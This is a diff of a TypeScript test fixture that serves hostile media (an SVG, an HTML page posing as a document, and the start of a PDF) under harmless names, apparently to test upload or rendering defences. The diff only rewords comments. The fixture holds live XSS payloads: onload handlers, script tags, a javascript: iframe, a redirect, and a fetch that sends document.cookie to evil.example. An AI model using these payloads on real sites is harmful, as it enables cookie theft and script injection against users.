@@ -1,6 +1,6 @@
 import type { Media } from "../media.ts";
 
-/** Pictures and documents that try to run something, behind the names of the harmless ones. */
+/** Malicious pictures and documents, under the harmless names. */
 export function hostileMedia(
   media: (name: string) => Media | undefined,
 ): (name: string) => Media | undefined {
@@ -15,19 +15,19 @@ export function hostileMedia(
 
 const reach = "try{parent.alert(30)}catch{}alert(31);fetch('https://evil.example/'+document.cookie)";
 
-/** A picture with script of its own, a handler, and a page inside. */
+/** Script, handler, and an embedded page. */
 const picture: Media = {
   contentType: "image/svg+xml",
   body: `<svg xmlns="http://www.w3.org/2000/svg" width="640" height="480" onload="alert(32)"><script>${reach}</script><rect width="640" height="480" fill="#c33"/><foreignObject width="640" height="480"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(33)"/></foreignObject></svg>`,
 };
 
-/** A page that is said to be a document. */
+/** A page instead of a document. */
 const page: Media = {
   contentType: "text/html; charset=utf-8",
   body: `<!doctype html><title>x</title><body><script>${reach};top.location='https://evil.example/'</script><p>page</p></body>`,
 };
 
-/** A document that runs script when it is opened. */
+/** Runs script on opening. */
 const document: Media = {
   contentType: "application/pdf",
   body: `%PDF-1.4
